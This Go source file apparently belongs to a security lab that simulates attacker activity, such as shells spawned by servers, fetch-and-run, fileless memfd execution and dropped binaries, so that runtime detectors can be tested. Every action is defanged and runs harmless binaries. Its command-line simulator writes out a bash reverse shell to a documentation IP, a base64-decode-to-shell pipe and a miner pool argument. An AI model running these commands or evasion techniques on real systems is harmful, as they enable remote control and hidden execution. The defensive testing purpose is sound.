// SPDX-License-Identifier: Apache-2.0

package action

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/nodesec/nodesec/lab/actor"
)

// tools are names of programs that attackers, and administrators, run; here they do nothing.
func tools() []string {
	return []string{"kubectl", "gcc", "shred", "nc", "scp", "xmrig", "mimipenguin", "apt-get", "useradd", "nsenter", "curl",
		"base64", "whoami", "id", "uname", "python3"}
}

// executions are about programs that run.
func executions() []*Action {
	return []*Action{
		{
			Name: "shell", Role: Attack, Techniques: []string{"T1190", "T1505.003", "T1059.004"},
			Description: "A server starts a shell, as one does that has been broken into.",
			Parameters:  []Parameter{choice("below", "the server", "nginx", "postgres", "sshd", none)},
			Needs:       Needs{Programs: servers()},
			act:         func(s *scene) error { return s.below(s.Values["below"], "true; true") },
		}, {
			Name: "tool", Role: Attack, Techniques: []string{"T1059", "T1105"},
			Description: "A program with the name of a tool runs. It does nothing.",
			Parameters: []Parameter{choice("name", "the tool", tools()...), shellBelow(),
				count("how often it runs", 1, 1, 100)},
			Needs: Needs{Programs: union(servers(), copies(tools()...))},
			act: func(s *scene) error {
				script := strings.Repeat("/usr/local/bin/"+s.Values["name"]+"\n", s.number("count"))
				return s.below(s.Values["below"], script+"true")
			},
		}, {
			Name: "fetch_and_run", Role: Attack, Techniques: []string{"T1105", "T1222.002", "T1204"},
			Description: "A tool for downloads runs, and then a file that was not there before, made executable.",
			Parameters:  []Parameter{shellBelow()}, Needs: Needs{Programs: union(servers(), copies("curl"))},
			act: func(s *scene) error {
				return s.below(s.Values["below"], "/usr/local/bin/curl; cat /bin/true >/tmp/payload; chmod +x /tmp/payload; /tmp/payload; true")
			},
		}, {
			Name: "decode_and_run", Role: Attack, Techniques: []string{"T1140", "T1027", "T1105"},
			Description: "A script that was downloaded is decoded and run.",
			Needs:       Needs{Programs: copies("curl")},
			act: func(s *scene) error {
				return s.shell("/usr/local/bin/curl; echo dHJ1ZQo= | base64 -d | sh; true")
			},
		}, {
			Name: "memfd_exec", Role: Attack, Techniques: []string{"T1620", "T1027"},
			Description: "A program runs that is in no file, only in memory.", act: memfdExec,
		},
	}
}

// processes are about what can be seen of processes.
func processes() []*Action {
	return []*Action{
		{
			Name: "exec_dropped", Role: Attack, Techniques: []string{"T1036.005", "T1204"},
			Description: "A program that was written a moment ago runs, and stays for a while.",
			Parameters: []Parameter{choice("folder", "where it is written", "/tmp", "/dev/shm", "/var/tmp/.x"),
				numeric("seconds", "how long it stays", 0, 0, 60), {Name: "unlink", Description: "the file is removed before it runs",
					Default: "no", Choices: []string{"no", "yes"}}}, act: execDropped,
		}, {
			Name: "command_line", Role: Attack, Techniques: []string{"T1059.004", "T1140", "T1496.001", "T1036.004"},
			Description: "A process has a telling command line, or name. It sleeps.",
			Parameters: []Parameter{choice("kind", "what it tells", "reverse_shell", "encoded_script", "miner", "kernel_thread"),
				numeric("seconds", "how long it stays", 3, 1, 60)},
			Needs: Needs{Programs: map[string]string{"/usr/local/bin/kworker": "/bin/sleep"}}, act: commandLine,
		}, {
			Name: "terminal", Role: Attack, Techniques: []string{"T1059.004"},
			Description: "A shell starts in a terminal of its own inside the actor.",
			Parameters:  []Parameter{shellBelow()}, Needs: Needs{Programs: servers()}, act: terminalShell,
		}, {
			Name: "entered_shell", Role: Attack, Techniques: []string{"T1609"},
			Description: "A shell is started in the actor from outside.",
			program: func(Values) actor.Program {
				return actor.Program{Path: "/bin/sh", Args: []string{"-c", "true; true"}, Entered: true}
			},
		}, {
			Name: "guess_passwords", Role: Attack, Techniques: []string{"T1110.001", "T1110.003"},
			Description: "A server accepts connections and runs a program for each, which fails.",
			Parameters:  []Parameter{count("connections", 60, 1, 1000)}, act: guessPasswords,
		},
	}
}

// startFile executes an open file, which needs no name for that.
func startFile(file *os.File, name string, arguments ...string) (*exec.Cmd, error) {
	cmd := &exec.Cmd{Path: fmt.Sprintf("/proc/self/fd/%d", file.Fd()), Args: append([]string{name}, arguments...)}
	return cmd, cmd.Start()
}

func memfdExec(_ *scene) error {
	data, err := os.ReadFile("/bin/true")
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("payload", 0)
	if err != nil {
		return err
	}
	file := os.NewFile(uintptr(fd), "payload")
	defer func() { _ = file.Close() }()
	if _, err := file.Write(data); err != nil {
		return err
	}
	cmd, err := startFile(file, "payload")
	if err != nil {
		return err
	}
	return cmd.Wait()
}

func execDropped(s *scene) error {
	path := filepath.Join(s.Values["folder"], "payload")
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return err
	}
	if err := copyFile("/bin/sleep", path); err != nil {
		return err
	}
	cmd := exec.Command(path, s.Values["seconds"])
	if s.Values["unlink"] == "yes" {
		file, err := os.Open(path)
		if err == nil {
			err = os.Remove(path)
		}
		if err != nil {
			return err
		}
		defer func() { _ = file.Close() }()
		cmd.Path, cmd.ExtraFiles = "/proc/self/fd/3", []*os.File{file}
	}
	if err := cmd.Start(); err != nil {
		return err
	}
	s.effect()
	return cmd.Wait()
}

func commandLine(s *scene) error {
	const sleep = "sleep $0; true"
	lines := map[string][]string{
		"reverse_shell":  {"/bin/sh", "-c", sleep, s.Values["seconds"], "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"},
		"encoded_script": {"/bin/sh", "-c", sleep, s.Values["seconds"], "echo dHJ1ZQo= | base64 -d | sh"},
		"miner":          {"/bin/sh", "-c", sleep, s.Values["seconds"], "-o stratum+tcp://pool.example:3333 --donate-level 1"},
		"kernel_thread":  {"/usr/local/bin/kworker", s.Values["seconds"]},
	}
	line := lines[s.Values["kind"]]
	cmd := exec.Command(line[0], line[1:]...)
	if err := cmd.Start(); err != nil {
		return err
	}
	s.effect()
	return cmd.Wait()
}

// openTerminal makes a terminal; both ends are to be closed.
func openTerminal() (master, slave *os.File, err error) {
	if master, err = os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0); err != nil {
		return nil, nil, err
	}
	if err = unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		return nil, nil, err
	}
	number, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err != nil {
		return nil, nil, err
	}
	slave, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", number), os.O_RDWR|unix.O_NOCTTY, 0)
	return master, slave, err
}

func terminalShell(s *scene) error {
	master, slave, err := openTerminal()
	if err != nil {
		return fmt.Errorf("make a terminal: %w", err)
	}
	defer func() { _, _ = master.Close(), slave.Close() }()
	cmd := exec.Command("/bin/sh", "-c", "true; true")
	if server := s.Values["below"]; server != none {
		cmd = exec.Command("/usr/sbin/"+server, "-c", "/bin/sh -c 'true; true'; true")
	}
	cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	return cmd.Run()
}

func guessPasswords(s *scene) error {
	address, err := s.listen("127.0.0.1:0", func(c conn) {
		_ = exec.Command("/bin/false").Run()
		_ = c.Close()
	})
	if err != nil {
		return err
	}
	err = times(s.number("count"), func(int) error {
		c, err := dial(address)
		if err == nil {
			_, _ = c.Read(make([]byte, 1)) // until it is turned down
			err = c.Close()
		}
		return err
	})
	time.Sleep(50 * time.Millisecond) // for the last one to be reaped
	return err
}
